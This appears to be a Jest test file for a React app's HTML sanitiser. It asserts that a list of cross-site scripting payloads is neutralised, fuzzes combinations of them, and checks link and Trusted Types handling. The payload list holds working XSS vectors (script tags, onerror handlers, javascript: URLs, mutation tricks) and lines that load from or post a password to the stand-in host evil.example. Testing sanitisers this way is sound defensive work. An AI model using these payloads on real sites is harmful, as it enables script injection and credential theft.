import { fireEvent, render, screen } from '@testing-library/react';
import fc from 'fast-check';
import { installNavigation } from '../router/go-to.ts';
import { sanitiseHtml } from './sanitise-html.ts';
import { SanitisedHtml } from './sanitised-html.tsx';

const parse = (html: string) => new DOMParser().parseFromString(sanitiseHtml(html), 'text/html').body;
const allowedTags =
  /^(P|BR|HR|H3|H4|STRONG|B|EM|I|U|S|SMALL|SUB|SUP|UL|OL|LI|DL|DT|DD|BLOCKQUOTE|CODE|PRE|A|IMG|SPAN|DIV|TABLE|CAPTION|THEAD|TBODY|TFOOT|TR|TH|TD)$/;
const allowedAttributes = /^(href|title|alt|src|width|height|colspan|rowspan|scope|lang|dir|start|target|rel|loading)$/;
const safeAddress = /^(https?:\/\/[^\s]|\/(?![/\\])|\/$|#|mailto:|tel:)/i;

/** Everything in the parsed result that could be executed or send a request. */
function faults(html: string): string[] {
  return [...parse(html).querySelectorAll('*')].flatMap((element) => {
    const found = allowedTags.test(element.tagName) ? [] : [`<${element.tagName}>`];
    for (const { name, value } of element.attributes) {
      if (!allowedAttributes.test(name)) found.push(`${name}=`);
      // The browser ignores these characters in a URL, so the check does too.
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what is looked for
      if (/^(href|src)$/.test(name) && !safeAddress.test(value.replace(/[\u0000-\u0020]/g, ''))) found.push(value);
    }
    return found;
  });
}

const payloads = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src=`javascript:alert(1)`>',
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="/&#9;/evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src=x>',
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example><input name=password><button>로그인</button></form>',
  '<a id=config href="https://x.example">x</a><p name=body id=location>x</p>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<p><![CDATA[<script>alert(1)</script>]]></p>',
  '<p class="banner" data-x="1" aria-label="x" contenteditable>x</p>',
];

it.each(payloads)('executes nothing of %s', (payload) => {
  expect(faults(payload)).toEqual([]);
});

it('executes nothing however tags, attributes and URLs are combined', () => {
  const piece = fc.oneof(
    fc.constantFrom(...payloads),
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '=',
      '/',
      '<!--',
      '-->',
      ']]>',
      '<svg>',
      '<math>',
      '<style>',
      '</style>',
      '<table>',
      '\u0000',
      '&lt;',
      '&#x3c;',
    ),
    fc.string({ maxLength: 12 }),
    fc
      .tuple(
        fc.constantFrom('a', 'img', 'svg', 'math', 'p', 'table', 'iframe', 'style', 'script', 'mglyph', 'div'),
        fc.constantFrom('href', 'src', 'style', 'onload', 'onerror', 'xlink:href', 'srcdoc', 'id', 'formaction'),
        fc.constantFrom('javascript:alert(1)', 'data:text/html,x', 'https://ok.example/', '//evil.example', 'x'),
      )
      .map(([tag, name, value]) => `<${tag} ${name}="${value}">`),
  );
  fc.assert(
    fc.property(fc.array(piece, { minLength: 1, maxLength: 8 }), (pieces) => {
      expect(faults(pieces.join(''))).toEqual([]);
      // Sanitising twice changes nothing: no second meaning is hidden in the result.
      expect(faults(sanitiseHtml(pieces.join('')))).toEqual([]);
    }),
    { numRuns: 600 },
  );
});

it('keeps the markup of notices and terms', () => {
  const html =
    '<h3>조건</h3><p><strong>롤링</strong> 100%</p><ul><li>하나</li></ul><table><tbody><tr><th scope="row">기한</th><td colspan="2">30일</td></tr></tbody></table>';
  expect(sanitiseHtml(html)).toBe(html);
});

it('opens other sites in a new window, and follows its own links without a reload', () => {
  const goTo = jest.fn();
  installNavigation(goTo);
  render(
    <SanitisedHtml html='<a href="/promotions">안</a><a href="https://other.example/">밖</a><img src="/x.png" alt="그림">' />,
  );
  const outside = screen.getByRole('link', { name: '밖' });
  expect(outside).toHaveAttribute('target', '_blank');
  expect(outside).toHaveAttribute('rel', 'noopener noreferrer nofollow');
  expect(screen.getByRole('img')).toHaveAttribute('loading', 'lazy');
  const inside = screen.getByRole('link', { name: '안' });
  expect(inside).not.toHaveAttribute('target');
  fireEvent.click(inside, { ctrlKey: true });
  expect(goTo).not.toHaveBeenCalled();
  fireEvent.click(inside);
  expect(goTo).toHaveBeenCalledWith('/promotions', undefined);
});

it('signs its output with one policy, and nothing else', () => {
  const createPolicy = jest.fn((_name: string, rules: object) => rules);
  Object.assign(globalThis, { trustedTypes: { createPolicy } });
  jest.isolateModules(() => {
    const fresh: typeof import('./sanitise-html.ts') = require('./sanitise-html.ts');
    expect(String(fresh.sanitiseHtml('<p>안녕</p><script>alert(1)</script>'))).toBe('<p>안녕</p>');
  });
  Reflect.deleteProperty(globalThis, 'trustedTypes');
  expect(createPolicy.mock.calls.map(([name]) => name)).toEqual(['tessera-html']);
});
